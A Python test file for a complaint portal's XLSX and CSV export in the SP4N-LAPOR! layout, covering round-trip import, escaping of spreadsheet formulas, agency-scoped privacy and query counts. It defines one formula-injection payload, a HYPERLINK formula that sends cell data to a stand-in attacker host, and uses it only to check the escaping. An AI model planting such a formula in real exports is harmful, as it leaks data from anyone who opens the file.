"""Exporting in the SP4N-LAPOR! layout: same columns, round trip, formula injection, privacy."""

import csv
import io

import openpyxl
from django.urls import reverse
from django.utils import timezone

from lapor import columns as c
from lapor import sample
from lapor.importer import run_import
from lapor.models import LaporRecord
from reports.models import IdentityRead, Report, ReportEvent
from tests.lapor_base import LaporImportCase


def everything_until_now():
    """The export's whole period: the sample's rows (2025–2026) up to today on the test's clock."""
    return {"received_from": "2025-01-01", "received_to": timezone.localdate().isoformat()}


INJECTION = '=HYPERLINK("http://jahat.example/curi?d="&A1,"Klik")'


class ExportCase(LaporImportCase):
    def export(self, user, fmt="xlsx", **params):
        self.login(user)
        query = {**everything_until_now(), "format": fmt, **params}
        response = self.client.get(reverse("lapor:export"), query)
        self.assertEqual(response.status_code, 200)
        return response

    def xlsx_rows(self, response):
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        return list(workbook.worksheets[0].iter_rows(values_only=True)), workbook

    def table(self, rows):
        start = next(i for i, row in enumerate(rows) if row and row[0] == "Tracking ID")
        header = rows[start]
        return [dict(zip(header, row, strict=False)) for row in rows[start + 1 :]]


class LayoutTests(ExportCase):
    def test_xlsx_has_information_rows_then_the_national_header(self):
        run_import(self.xlsx([sample.row(1001)]), dry_run=False)
        rows, _ = self.xlsx_rows(self.export(self.coordinator))
        header_at = next(i for i, row in enumerate(rows) if row and row[0] == "Tracking ID")
        self.assertGreater(header_at, 0)
        self.assertEqual(list(rows[header_at]), c.COLUMNS)
        line = self.table(rows)[0]
        self.assertEqual(line[c.TRACKING_ID], "1001")
        self.assertEqual((line[c.DATE], line[c.TIME]), ("3 Jan 2026", "14:05:33"))
        self.assertEqual(line[c.STATUS], "Terdisposisi ke Dinas Perhubungan")

    def test_csv_has_the_same_layout(self):
        run_import(self.xlsx([sample.row(1002)]), dry_run=False)
        response = self.export(self.coordinator, fmt="csv")
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(self.table(rows)[0][c.TRACKING_ID], "1002")
        self.assertIn(c.COLUMNS, rows)

    def test_an_export_imports_back_unchanged_from_a_few_hundred_varied_rows(self):
        """Export, then import the export: no report created or updated, no event written,
        every row stored as it was (300 rows of LAPOR!'s many spellings, XLSX and CSV)."""
        rows = list(sample.random_rows(300, start_id=500, varied=True))
        run_import(self.csv(rows), dry_run=False)
        count = Report.objects.count()
        self.assertGreaterEqual(count, 300)
        for fmt in ("xlsx", "csv"):
            # WITA/WIT times just after midnight on 1 Jan 2025 were received on 31 Dec 2024.
            response = self.export(self.coordinator, fmt=fmt, received_from="2024-12-01")
            path = self.tmp(f"back.{fmt}")
            path.write_bytes(response.content)
            before = dict(LaporRecord.objects.values_list("tracking_id", "row_data"))
            events = ReportEvent.objects.count()
            outcome = run_import(path, dry_run=False)
            after = dict(LaporRecord.objects.values_list("tracking_id", "row_data"))
            diffs = {
                tid: {name: (before[tid][name], value) for name, value in row.items() if before[tid][name] != value}
                for tid, row in after.items()
            }
            self.assertEqual({tid: diff for tid, diff in diffs.items() if diff}, {}, fmt)
            self.assertEqual((len(outcome.created), len(outcome.updated), outcome.rejected_count), (0, 0, 0), fmt)
            self.assertEqual(len(outcome.unchanged), count, fmt)
            self.assertEqual(ReportEvent.objects.count(), events, fmt)
        self.assertEqual(Report.objects.count(), count)

    def test_an_aduan_report_is_exported_with_its_own_number_and_not_imported_back_as_new(self):
        report = self.make_report(title="Dari portal")
        rows, _ = self.xlsx_rows(self.export(self.coordinator))
        line = self.table(rows)[0]
        self.assertEqual(
            (line[c.TRACKING_ID], line[c.SOURCE], line[c.STATUS]),
            (report.tracking_number, "Aduan", "Belum Terverifikasi"),
        )
        path = self.tmp("back.xlsx")
        path.write_bytes(self.export(self.coordinator).content)
        outcome = run_import(path, dry_run=False)
        self.assertEqual(outcome.rejected_count, 1)
        self.assertEqual(Report.objects.count(), 1)

    def test_period_selection(self):
        run_import(self.xlsx([sample.row(1101), sample.row(1102, **{c.DATE: "5 Mar 2025"})]), dry_run=False)
        rows, _ = self.xlsx_rows(self.export(self.coordinator, received_from="2026-01-01", received_to="2026-01-31"))
        self.assertEqual([line[c.TRACKING_ID] for line in self.table(rows)], ["1101"])


class FormulaInjectionTests(ExportCase):
    TEXTS = {c.TITLE: INJECTION, c.TEXT_FINAL: "+62 812 lampu", c.REPORTER_NAME: "@budi"}

    def cells(self, response):
        """The first report's cells by column, from the workbook read in full (with styles)."""
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        rows = list(sheet.iter_rows())
        start = next(i for i, row in enumerate(rows) if row[0].value == "Tracking ID")
        return dict(zip([cell.value for cell in rows[start]], rows[start + 1], strict=False)), rows

    def test_xlsx_writes_formula_like_text_as_it_is_in_a_quote_prefixed_string_cell(self):
        run_import(self.xlsx([sample.row(2001, **self.TEXTS)]), dry_run=False)
        report = LaporRecord.objects.get(tracking_id="2001").report
        self.assertEqual(report.title, INJECTION[:200])  # stored as the text it is

        line, rows = self.cells(self.export(self.coordinator))
        for name, text in self.TEXTS.items():
            cell = line[name]
            # The resident's words with no apostrophe, a string that Excel keeps as text.
            self.assertEqual((cell.value, cell.data_type, cell.quotePrefix), (text, "s", True), name)
        self.assertFalse(line[c.TRACKING_ID].quotePrefix)
        for row in rows:
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", cell.value)

    def test_csv_puts_an_apostrophe_before_formula_like_text(self):
        run_import(self.xlsx([sample.row(2003, **self.TEXTS)]), dry_run=False)
        text = self.export(self.coordinator, fmt="csv").content.decode("utf-8-sig")
        line = self.table(list(csv.reader(io.StringIO(text))))[0]
        self.assertEqual(
            (line[c.TITLE], line[c.TEXT_FINAL], line[c.REPORTER_NAME]), ("'" + INJECTION, "'+62 812 lampu", "'@budi")
        )
        self.assertNotIn(",=HYPERLINK", text)

    def test_formula_like_text_reads_back_as_written_from_xlsx_and_csv(self):
        titles = {
            "2010": INJECTION,
            "2011": "''=1+1",  # a writer's apostrophe before "'=1+1": the report says "'=1+1"
            "2012": "- lampu mati",
            "2013": "'Lampu' mati",
        }
        run_import(self.xlsx([sample.row(tid, **{c.TITLE: title}) for tid, title in titles.items()]), dry_run=False)
        stored = dict(LaporRecord.objects.values_list("tracking_id", "report__title"))
        self.assertEqual(stored, {**titles, "2011": "'=1+1"})
        for fmt in ("xlsx", "csv"):
            path = self.tmp(f"back.{fmt}")
            path.write_bytes(self.export(self.coordinator, fmt=fmt).content)
            outcome = run_import(path, dry_run=False)
            self.assertEqual((len(outcome.unchanged), len(outcome.updated)), (len(titles), 0), fmt)
            self.assertEqual(dict(LaporRecord.objects.values_list("tracking_id", "report__title")), stored, fmt)

    def test_an_older_export_with_a_literal_apostrophe_reads_back_too(self):
        path = self.xlsx([sample.row(2020, **{c.TITLE: "'" + INJECTION})])
        run_import(path, dry_run=False)
        self.assertEqual(LaporRecord.objects.get(tracking_id="2020").report.title, INJECTION)

    def test_line_breaks_and_control_characters_are_written_plain(self):
        text = "Lampu mati.\r\nSudah dua minggu.\x0bMohon\x07 segera."
        run_import(self.csv([sample.row(2030, **{c.TEXT_FINAL: text})]), dry_run=False)
        stored = LaporRecord.objects.get(tracking_id="2030").report.description
        self.assertEqual(stored, "Lampu mati.\nSudah dua minggu.\nMohon segera.")
        self.make_report(description="Dari portal:\r\nada\x1b karakter kendali.")
        line, _rows = self.cells(self.export(self.coordinator))  # failed with IllegalCharacterError
        self.assertEqual(line[c.TEXT_FINAL].value, stored)


class PrivacyTests(ExportCase):
    def setUp(self):
        rows = [
            sample.row(3001, **{c.REPORTER_NAME: "Rahmat Anonim", c.TYPE: "Anonim"}),  # to Dishub
            sample.row(3002, **{c.REPORTER_NAME: "Dewi Terbuka", c.AGENCY_ID: "9002", c.AGENCY: "DPUPR"}),
            sample.row(
                3003, **{c.REPORTER_NAME: "Sari Anonim", c.TYPE: "Anonim", c.AGENCY_ID: "9002", c.AGENCY: "DPUPR"}
            ),
        ]
        run_import(self.xlsx(rows), dry_run=False)

    def ids(self, response):
        rows, _ = self.xlsx_rows(response)
        return {line[c.TRACKING_ID]: line for line in self.table(rows)}

    def test_an_agency_exports_only_what_was_disposed_to_it(self):
        lines = self.ids(self.export(self.pw_liaison))
        self.assertEqual(set(lines), {"3002", "3003"})
        # Another agency cannot be chosen: the form refuses it and no file is sent.
        response = self.export(self.pw_liaison, agency=self.transport.pk)
        self.assertEqual(response["Content-Type"], "text/html; charset=utf-8")
        self.assertTrue(response.context["form"].errors["agency"])
        self.assertNotIn("3001", response.content.decode())

    def test_an_anonymous_reporter_is_never_exported_to_an_agency(self):
        lines = self.ids(self.export(self.pw_liaison))
        self.assertEqual(lines["3003"][c.REPORTER_NAME], "Anonim")
        self.assertEqual(lines["3002"][c.REPORTER_NAME], "Dewi Terbuka")
        csv_text = self.export(self.pw_liaison, fmt="csv").content.decode("utf-8-sig")
        self.assertNotIn("Sari Anonim", csv_text)
        self.assertNotIn("Rahmat Anonim", csv_text)

    def test_the_coordinator_exports_every_name_and_each_read_is_audited(self):
        before = IdentityRead.objects.filter(user=self.coordinator).count()
        lines = self.ids(self.export(self.coordinator))
        self.assertEqual(lines["3001"][c.REPORTER_NAME], "Rahmat Anonim")
        self.assertEqual(IdentityRead.objects.filter(user=self.coordinator).count() - before, 3)

    def test_agency_filter_for_the_coordinator(self):
        lines = self.ids(self.export(self.coordinator, agency=self.transport.pk))
        self.assertEqual(set(lines), {"3001"})

    def test_someone_without_an_appointment_exports_nothing(self):
        self.login(self.outsider)
        response = self.client.get(reverse("lapor:export"), {"format": "csv"})
        self.assertEqual(response.status_code, 403)


class ExportQueryTests(ExportCase):
    def test_query_count_does_not_grow_with_rows(self):
        run_import(self.xlsx(list(sample.random_rows(5, start_id=100))), dry_run=False)
        self.login(self.coordinator)
        query = {**everything_until_now(), "format": "csv"}
        self._queries(query)  # the caches warm (the home government's id, which names the export)
        small = self._queries(query)
        run_import(self.xlsx(list(sample.random_rows(30, start_id=200))), dry_run=False)
        self.assertEqual(self._queries(query), small)

    def _queries(self, query):
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as ctx:
            self.client.get(reverse("lapor:export"), query)
        return len(ctx.captured_queries)
